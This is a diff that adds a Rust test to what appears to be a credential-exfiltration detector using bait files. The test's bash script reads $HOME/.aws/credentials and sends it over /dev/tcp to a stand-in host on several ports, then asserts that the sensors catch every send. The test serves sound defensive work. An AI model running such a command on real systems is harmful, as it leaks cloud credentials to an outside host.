@@ -52,3 +52,32 @@ fn a_run_that_only_reads_its_baits_and_talks_of_other_things_raises_no_alarm() {
     assert!(!run.of("bait.read").is_empty());
     assert!(run.of("bait.exfiltrated").is_empty(), "{:#?}", run.of("bait.exfiltrated"));
 }
+
+/// Several at once, so that the last words of some are still in the kernel's buffers when the run ends.
+#[test]
+fn what_is_sent_in_the_last_moment_before_the_end_is_looked_through_like_all_else() {
+    if !has("bash") {
+        return;
+    }
+    for sensor in SENSORS {
+        let run = Place::new().script(
+            sensor,
+            "for port in 9001 9002 9003 9004; do
+                 bash -c 'exec 3<>/dev/tcp/203.0.113.9/'$port'; head -c 700000 /dev/zero >&3; cat $HOME/.aws/credentials >&3' &
+             done
+             wait
+             bash -c 'exec 3<>/dev/tcp/203.0.113.9/9005; cat $HOME/.aws/credentials >&3'",
+        );
+        let mut ports: Vec<u64> = run
+            .of("bait.exfiltrated")
+            .iter()
+            .filter(|event| event["bait"]["bait"] == "root_aws_credentials")
+            .map(|event| event["bait"]["flow"]["remote"]["port"].as_u64().unwrap())
+            .collect();
+        ports.sort_unstable();
+        assert_eq!(ports, [9001, 9002, 9003, 9004, 9005], "{sensor}");
+        for flow in run.of("network.flow") {
+            assert_eq!(flow["network"]["end"], "closed", "{sensor}: {flow:#}");
+        }
+    }
+}
